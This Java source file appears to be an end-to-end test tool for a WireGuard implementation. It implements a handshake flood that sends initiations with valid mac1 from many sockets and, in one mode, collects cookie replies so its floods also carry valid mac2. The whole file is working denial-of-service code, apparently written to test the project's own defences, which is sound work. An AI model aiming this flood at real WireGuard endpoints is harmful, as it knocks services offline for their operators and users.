package sitelink.e2e.tools;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import sitelink.crypto.Key;
import sitelink.tunnel.Clock;
import sitelink.wireguard.CookieGenerator;

/**
 * A handshake flood, run inside an attacker's namespace:
 * {@code FloodSender HOST PORT VICTIM_PUBLIC_KEY RATE SECONDS SOURCES PORTS_PER_SOURCE random|cookies}.
 *
 * <p>Sends initiations to HOST:PORT at RATE per second (0: as fast as it can) for SECONDS, round-robin from
 * PORTS_PER_SOURCE sockets on each of the SOURCES (comma-separated local addresses). Every initiation has random
 * fields and a correct mac1 for the victim's public key, which anyone who knows that key can compute, so each one
 * passes the victim's first check and would cost it a Diffie-Hellman. {@code random} never reads the cookie replies;
 * {@code cookies} is the stronger attacker: each socket reads the victim's cookie reply, and from then on its
 * initiations carry a valid mac2, as a real peer's would. Prints "sent N cookies_received M" at the end.
 */
public final class FloodSender {
    private static final int INITIATION = 148;

    /** A socket, its cookie state, and the messages it floods with once it holds a cookie (made once, as a thrifty attacker would). */
    private record Source(DatagramChannel channel, CookieGenerator cookies, byte[][] withCookie) {
    }

    public static void main(String[] args) throws Exception {
        InetSocketAddress to = new InetSocketAddress(args[0], Integer.parseInt(args[1]));
        Key victim = Key.fromBase64(args[2]);
        int rate = Integer.parseInt(args[3]);
        long seconds = Long.parseLong(args[4]);
        int portsPerSource = Integer.parseInt(args[6]);
        boolean answerCookies = args[7].equals("cookies");
        List<Source> sources = new ArrayList<>();
        for (String address : args[5].split(",")) {
            for (int i = 0; i < portsPerSource; i++) {
                DatagramChannel c = DatagramChannel.open().bind(new InetSocketAddress(address, 0));
                c.configureBlocking(false);
                Source s = new Source(c, new CookieGenerator(victim, Clock.SYSTEM), new byte[32][]);
                sources.add(s);
            }
        }
        System.out.println("flooding " + to + " from " + sources.size() + " sockets at " + (rate == 0 ? "full speed" : rate + "/s")
                + (answerCookies ? ", answering cookie replies" : ""));
        System.out.flush();

        SplittableRandom random = new SplittableRandom(7);
        // Without cookies the messages can be made up front (mac2 stays zero); with them each carries its socket's mac2.
        byte[][] prepared = new byte[256][];
        for (int i = 0; i < prepared.length; i++) {
            prepared[i] = randomInitiation(random);
            new CookieGenerator(victim, Clock.SYSTEM).addMacs(prepared[i]);
        }
        long start = System.nanoTime();
        long end = start + seconds * 1_000_000_000L;
        long sent = 0;
        int withCookie = 0;
        while (System.nanoTime() < end) {
            if (answerCookies && withCookie < sources.size() && System.nanoTime() - start > 500_000_000L) {
                // Half a second of flood put the victim under load; now, like a real peer, each socket sends one
                // initiation and reads the cookie reply to it (the reply opens only with that message's mac1).
                withCookie = 0;
                for (Source s : sources) {
                    if (fetchCookie(s, to, random)) {
                        withCookie++;
                        for (int i = 0; i < s.withCookie().length; i++) { // mac1 and a valid mac2, random otherwise
                            s.withCookie()[i] = randomInitiation(random);
                            s.cookies().addMacs(s.withCookie()[i]);
                        }
                    }
                }
                System.out.println("cookies for " + withCookie + " of " + sources.size() + " sockets");
                System.out.flush();
                if (withCookie < sources.size()) {
                    withCookie = sources.size(); // try once: the victim may not be under load, then none is needed
                }
            }
            Source s = sources.get((int) (sent % sources.size()));
            byte[] msg;
            if (answerCookies && s.withCookie()[0] != null) {
                msg = s.withCookie()[(int) (sent / sources.size() % s.withCookie().length)];
            } else if (answerCookies) {
                msg = randomInitiation(random); // before its cookie: mac1 only, as any initiation
                s.cookies().addMacs(msg);
            } else {
                msg = prepared[(int) (sent % prepared.length)];
            }
            try {
                s.channel().send(ByteBuffer.wrap(msg), to);
            } catch (IOException e) {
                // ICMP port unreachable from an earlier datagram surfaces here: an attacker does not care.
            }
            sent++;
            if (rate > 0) {
                long due = start + sent * 1_000_000_000L / rate;
                long early = due - System.nanoTime();
                if (early > 200_000) {
                    Thread.sleep(early / 1_000_000, (int) (early % 1_000_000));
                }
            }
        }
        long cookiesReceived = withCookie;
        System.out.println("sent " + sent + " cookies_received " + cookiesReceived);
    }

    /** Sends one initiation from s and waits up to a second for the cookie reply to it. */
    private static boolean fetchCookie(Source s, InetSocketAddress to, SplittableRandom random) throws IOException,
            InterruptedException {
        ByteBuffer in = ByteBuffer.allocate(256);
        for (int attempt = 0; attempt < 5; attempt++) {
            while (s.channel().receive(in) != null) { // replies to earlier messages: they no longer open
                in.clear();
            }
            byte[] msg = randomInitiation(random);
            s.cookies().addMacs(msg);
            s.channel().send(ByteBuffer.wrap(msg), to);
            long deadline = System.nanoTime() + 200_000_000L;
            while (System.nanoTime() < deadline) {
                in.clear();
                if (s.channel().receive(in) == null) {
                    Thread.sleep(1);
                    continue;
                }
                byte[] reply = new byte[in.flip().remaining()];
                in.get(reply);
                if (s.cookies().consumeReply(reply)) {
                    return true;
                }
            }
        }
        return false;
    }

    /** Type 1, zero reserved bytes, everything else random (sender index, ephemeral, encrypted static and timestamp). */
    private static byte[] randomInitiation(SplittableRandom random) {
        byte[] msg = new byte[INITIATION];
        random.nextBytes(msg);
        msg[0] = 1;
        msg[1] = msg[2] = msg[3] = 0;
        return msg;
    }
}
